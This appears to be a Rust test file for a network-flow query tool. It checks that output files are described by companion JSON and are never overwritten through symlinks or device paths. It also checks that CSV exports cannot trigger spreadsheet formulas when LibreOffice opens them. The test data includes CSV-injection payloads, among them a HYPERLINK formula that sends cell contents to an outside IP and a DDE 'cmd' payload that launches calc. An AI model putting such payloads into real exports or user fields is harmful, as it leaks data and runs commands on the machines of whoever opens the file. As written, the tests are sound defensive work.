//! Answers in files: what is replaced and what is not, what describes them, and what spreadsheets make of them.

use std::fs;
use std::os::unix::fs::{FileTypeExt, symlink};
use std::path::Path;
use std::process::Command;

use hotspot_core::record::Identity;
use serde_json::{Value, json};

use crate::venue::{Venue, flow, text};

#[test]
fn a_file_is_whole_described_beside_it_and_never_written_over_by_mistake() {
    let venue = Venue::new(false);
    let dir = venue.dir.path();
    let find = |words: &[&str]| {
        let mut command = venue.command("find");
        command.current_dir(dir).args(["--audit", "log.jsonl"]).args(words).arg("user 0900000007").output().unwrap()
    };
    let companion =
        |name: &str| -> Value { serde_json::from_slice(&fs::read(dir.join(format!("{name}.json"))).unwrap()).unwrap() };
    for (form, name) in [("--parquet", "out.parquet"), ("--output", "out.txt")] {
        let output = find(&[form, name]);
        assert_eq!(output.status.code(), Some(0), "a bare name: {output:?}");
        assert!(text(&output.stderr).contains("60 flows found"), "{output:?}");
        let said = companion(name)["answer"].clone();
        let bytes = fs::read(dir.join(name)).unwrap();
        assert_eq!(
            (&said["found"], &said["file"]["bytes"], &said["file"]["name"]),
            (&json!(60), &json!(bytes.len()), &json!(name))
        );
        assert_eq!(said["file"]["sha256"].as_str().unwrap().len(), 64);
        let again = find(&[form, name]);
        assert_eq!(again.status.code(), Some(2), "{again:?}");
        assert!(text(&again.stderr).contains("--force"), "{again:?}");
        assert_eq!(find(&[form, name, "--force"]).status.code(), Some(0));
    }
    let csv = find(&["--csv", "--output", "out.csv"]);
    assert_eq!((csv.status.code(), csv.stdout.len()), (Some(0), 0), "{csv:?}");
    assert_eq!(fs::read_to_string(dir.join("out.csv")).unwrap().lines().count(), 61);
    assert_eq!(companion("out.csv")["answer"]["verdict"], "found");
    let json = find(&["--json", "--output", "out.jsonl"]);
    assert_eq!(json.status.code(), Some(0), "{json:?}");
    assert!(fs::read_to_string(dir.join("out.jsonl")).unwrap().lines().last().unwrap().starts_with("{\"answer\":"));
    assert!(!dir.join("out.jsonl.json").exists(), "it is in the file");
    fs::write(dir.join("aim"), "precious").unwrap();
    symlink(dir.join("aim"), dir.join("link")).unwrap();
    symlink(dir.join("aim"), dir.join("x.json")).unwrap();
    for form in ["--parquet", "--output"] {
        for name in ["link", "x", "/dev/null", "/dev/full", ".", "nowhere/x"] {
            let output = find(&[form, name, "--force"]);
            assert_eq!(output.status.code(), Some(2), "{form} {name}: {output:?}");
        }
    }
    assert!(
        fs::symlink_metadata(dir.join("link")).unwrap().is_symlink()
            && fs::read(dir.join("aim")).unwrap() == b"precious"
    );
    assert!(fs::metadata("/dev/null").unwrap().file_type().is_char_device());
    let left: Vec<_> = fs::read_dir(dir)
        .unwrap()
        .filter(|entry| entry.as_ref().unwrap().file_name().to_string_lossy().contains(".part"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// Names as guests choose them; what a spreadsheet must not do with each is in the name of the test.
const NAMES: [&str; 24] = [
    "=1+1",
    "+84912345678",
    "-2+3",
    "@SUM(1,2)",
    "=HYPERLINK(\"http://198.51.100.9/?\"&A2,\"x\")",
    "=cmd|'/C calc'!A0",
    " =1+1",
    "\"=1+1",
    "'=1+1",
    "\t=1+1",
    "\r=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "a;=1+1",
    "a\",=1+1",
    "0912345678",
    "12345678901234567890",
    "1-2",
    "DEC1",
    "1E5",
    "TRUE",
    "12:30",
    "Nguyễn Văn A",
    "anna",
];

fn venue_of_names() -> Venue {
    Venue::with("cafe", "gw", false, |segment| {
        let of = |(number, name): (usize, &&str)| {
            let mut flow = flow(1, 1, number as u64);
            let who = flow.identity.as_deref().unwrap();
            flow.identity = Some(std::sync::Arc::new(Identity { users: vec![(*name).to_owned()], ..who.clone() }));
            flow
        };
        if segment == 1 { NAMES.iter().enumerate().map(of).collect() } else { Vec::new() }
    })
}

#[test]
fn csv_is_true_to_the_values() {
    let venue = venue_of_names();
    let output = venue.find(&["--csv", "--by", "user"]);
    for name in NAMES {
        let quoted = if name.contains(['"', ',', '\r']) {
            format!("\"{}\"", name.replace('"', "\"\""))
        } else {
            name.to_owned()
        };
        assert!(text(&output.stdout).contains(&format!("\r\n{quoted},1,")), "{name:?}");
    }
}

/// By `LibreOffice`, which evaluates what it takes for a formula, a date or a number when it opens the file.
#[test]
fn a_spreadsheet_runs_no_cell_and_changes_none() {
    let venue = venue_of_names();
    let dir = venue.dir.path();
    let output =
        venue.command("find").current_dir(dir).args(["--csv-for-excel", "--output", "answer.csv"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let written = fs::read_to_string(dir.join("answer.csv")).unwrap();
    assert!(written.starts_with("\u{feff}flow_id,start,"), "{written}");
    // Comma, semicolon and tab separate, as its dialog proposes; quoted fields, UTF-8, numbers are recognised and formulas evaluated.
    for separators in ["44", "44/59/9"] {
        let sheet = opened(dir, &dir.join("answer.csv"), separators);
        let cells = cells(&sheet);
        let users: Vec<&str> = cells.iter().filter_map(|row| row.get(27)).map(String::as_str).collect();
        assert_eq!(users[0], "user", "{sheet}");
        for (name, shown) in NAMES.iter().zip(&users[1..]) {
            let value = hotspot_core::text::shown(name).replace(';', "\\x3b");
            assert_eq!(shown.strip_prefix('\'').unwrap_or(shown), value, "{separators}: {name:?}");
        }
        let row = &cells[1];
        assert_eq!(
            (&*row[1], &*row[8], &*row[9], &*row[19]),
            ("'2026-11-23T00:05:00.000000Z", "'02:00:00:00:00:01", "'10.20.0.1", "2")
        );
        assert_eq!(row[0], (4_294_967_296u64 + 20).to_string());
    }
    let sums = venue.find(&["--by", "user", "--csv-for-excel"]);
    assert!(text(&sums.stdout).contains("\r\n\"'=1+1\",1,"), "{sums:?}");
}

fn opened(dir: &Path, csv: &Path, separators: &str) -> String {
    let filter =
        format!("--infilter=Text - txt - csv (StarCalc):{separators},34,76,1,,0,false,true,false,false,false,-1,true");
    let mut office = Command::new("soffice");
    let profile = format!("-env:UserInstallation=file://{}", dir.join("office").display());
    office.args([&profile, "--headless", "--convert-to", "fods", &filter, "--outdir"]).arg(dir).arg(csv);
    let output = office.output().unwrap_or_else(|error| panic!("soffice: {error}; run `cargo xtask setup`"));
    let out = csv.with_extension("fods");
    fs::read_to_string(&out).unwrap_or_else(|error| panic!("{}: {error}: {output:?}", out.display()))
}

/// The text of every cell of a flat spreadsheet. One with a formula is a fault, whatever it came to.
fn cells(fods: &str) -> Vec<Vec<String>> {
    assert!(!fods.contains("table:formula"), "a cell is run: {fods}");
    fods.split("<table:table-row").skip(1).map(cells_of_row).collect()
}

fn cells_of_row(row: &str) -> Vec<String> {
    let mut cells = Vec::new();
    for cell in row.split("<table:table-cell").skip(1) {
        let (attributes, content) = cell.split_once('>').unwrap();
        let repeated = attributes
            .split_once("table:number-columns-repeated=\"")
            .map_or(1, |(_, rest)| rest.split('"').next().and_then(|count| count.parse().ok()).unwrap_or(1));
        let paragraphs =
            content.split("<text:p>").skip(1).map(|part| part.split("</text:p>").next().unwrap_or_default());
        let mut text = paragraphs.collect::<Vec<_>>().join("\n");
        for (entity, value) in
            [("<text:s/>", " "), ("&apos;", "'"), ("&quot;", "\""), ("&lt;", "<"), ("&gt;", ">"), ("&amp;", "&")]
        {
            text = text.replace(entity, value);
        }
        // The rest of the sheet is one cell that is repeated.
        cells.extend(std::iter::repeat_n(text, if repeated < 100 { repeated } else { 0 }));
    }
    cells
}
